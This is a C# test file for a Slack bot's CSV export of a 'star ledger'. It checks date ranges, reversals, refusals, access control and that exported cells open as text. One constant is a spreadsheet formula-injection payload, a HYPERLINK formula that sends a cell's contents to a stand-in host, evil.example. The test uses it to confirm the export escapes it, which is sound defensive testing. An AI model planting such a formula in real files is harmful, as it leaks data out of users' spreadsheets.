using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using SlackChampionBot.Features.Data;
using SlackChampionBot.Features.Stars;
using SlackChampionBot.Features.Wins;
using SlackChampionBot.Tests.Support;

namespace SlackChampionBot.Tests.Features.Data;

/// <summary><c>/stars export</c> through the real host: the CSV in a DM covers exactly the range and opens as text.</summary>
public sealed class StarsExportTests
{
    private const string Alice = "U0ALICE";
    private const string Bob = "U0BOB";
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";

    [Fact]
    public async Task Export_November_CoversExactlyItsEntriesWithReversalsAndRefusals_AndOpensAsText()
    {
        // Saturday 31 October 2026, 23:30 in London (GMT since the 25th): half an hour before the range opens.
        await using var world = await DataWorld.Start(new() { ["Wins:MaxPaidWinsPerDay"] = "1" }, new DateTimeOffset(2026, 10, 31, 23, 30, 0, TimeSpan.Zero));
        world.Slack.AddUser(Alice, "alice", tz: "Europe/London");
        world.Slack.AddUser(Bob, "bob", tz: "Europe/London");
        var time = world.Bot.Time;

        await world.Post(Alice, "#win Before November: kept the Hendersons' order on track"); // outside
        time.Advance(TimeSpan.FromMinutes(30) + TimeSpan.FromSeconds(1)); // 1 November 00:00:01
        var first = await world.Post(Alice, $"#win First minute of November: rebooked Harbour Foods' delivery with <@{Bob}>");
        await world.Post(Alice, "#win Second win the same day, which does not pay its poster"); // a refusal (paid wins a day)

        time.Advance(TimeSpan.FromDays(1));
        await world.Cheer(Bob, Alice, first);
        time.Advance(TimeSpan.FromDays(1));
        await world.Bot.SendEventAndWait(Wins.WinEvents.Cheer(DataWorld.WinsChannel, Bob, Alice, first, world.NextTs(), removed: true));

        time.Advance(TimeSpan.FromDays(7));
        var state = new JsonObject
        {
            [WinsBlocks.StoryBlock] = new JsonObject { [WinsBlocks.StoryAction] = new JsonObject { ["type"] = "plain_text_input", ["value"] = "Talked a customer through their refund, step by step" } },
            [WinsBlocks.CustomerBlock] = new JsonObject { [WinsBlocks.CustomerAction] = new JsonObject { ["type"] = "plain_text_input", ["value"] = Hyperlink } },
        };
        await world.Bot.SendInteraction(BotHarness.ViewSubmission(Bob, ShareWinSubmission.CallbackId, state));

        time.SetUtcNow(new DateTimeOffset(2026, 11, 30, 23, 59, 0, TimeSpan.Zero));
        await world.Post(Bob, "#win Last minute of November: found the lost parcel for a customer"); // inside
        time.Advance(TimeSpan.FromMinutes(1)); // 1 December 00:00
        await world.Post(Bob, "#win First minute of December: outside the range, not in the file");

        var answer = await world.Stars(DataWorld.Hr, "export 2026-11-01 2026-11-30");
        Assert.StartsWith("Preparing the star ledger for 1–30 November 2026", answer);
        var file = await world.File();
        Assert.Equal("star-ledger-2026-11-01-to-2026-11-30.csv", file.FileName);
        Assert.Equal(world.Slack.DmChannelId(DataWorld.Hr), file.ChannelId);

        var rows = CsvRows.Read(file.Content!);
        Assert.Equal(
            ["record", "entry_id", "created_at_utc", "date", "giver_id", "giver", "receiver_id", "receiver", "stars", "reason", "reverses_entry_id", "reversed_by_entry_id", "win_id", "win_link", "customer", "lifecycle_stage", "experience", "kpi", "win_deleted", "count"],
            rows[0]);
        var entries = rows.Skip(1).Where(r => r[0] == "entry").ToList();
        var expected = await world.Bot.Db(db => db.Set<StarEntry>().AsNoTracking()
            .Where(e => e.CreatedAt >= new DateTime(2026, 11, 1, 0, 0, 0, DateTimeKind.Utc) && e.CreatedAt < new DateTime(2026, 12, 1, 0, 0, 0, DateTimeKind.Utc))
            .OrderBy(e => e.Id).Select(e => e.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)).ToListAsync());
        Assert.Equal(expected, entries.Select(r => r[1]));
        Assert.Equal(6, entries.Count); // the first win and its credit, the cheer and its reversal, the form's win, the last minute's win
        Assert.All(entries, r => Assert.StartsWith("2026-11-", r[3]));
        Assert.DoesNotContain(entries, r => r[2].StartsWith("2026-10-", StringComparison.Ordinal) || r[2].StartsWith("2026-12-", StringComparison.Ordinal));

        var credit = Assert.Single(entries, r => r[9] == "credit");
        Assert.Equal((Alice, "alice", Bob, "bob", "1"), (credit[4], credit[5], credit[6], credit[7], credit[8]));
        var cheer = Assert.Single(entries, r => r[9] == "cheer");
        var reversal = Assert.Single(entries, r => r[9] == "reversal");
        Assert.Equal((cheer[1], "-1", reversal[1]), (reversal[10], reversal[8], cheer[11]));
        Assert.StartsWith("https://", cheer[13]);

        var form = Assert.Single(entries, r => r[14].Length > 0);
        Assert.Equal("'" + Hyperlink, form[14]); // opens as text, not as a formula
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+@\t\r".Contains(cell[0], StringComparison.Ordinal), $"a cell starts like a formula: {cell}"));

        var refusal = Assert.Single(rows, r => r[0] == "refusals");
        Assert.Equal((Alice, Alice, "paid_wins_per_day", "1"), (refusal[4], refusal[6], refusal[9], refusal[19]));
    }

    [Fact]
    public async Task Export_AskedByAColleagueWhoIsNeitherHrNorAnAdmin_IsRefusedAndSendsNothing()
    {
        await using var world = await DataWorld.Start();
        world.Slack.AddUser(Alice, "alice");

        var answer = await world.Stars(Alice, "export");

        Assert.StartsWith(DataBlocks.LedgerRefused, answer);
        Assert.Empty(world.Slack.Calls("files.getUploadURLExternal"));
    }

    [Theory]
    [InlineData("2026-11-31")]
    [InlineData("2026-11-30 2026-11-01")]
    [InlineData("yesterday")]
    [InlineData("2026-11-01 2026-11-02 2026-11-03")]
    public async Task Export_ARangeItCannotRead_AnswersWithTheUsage(string range)
    {
        await using var world = await DataWorld.Start();

        Assert.StartsWith(LedgerRange.Usage, await world.Stars(DataWorld.Admin, "export " + range));
    }
}
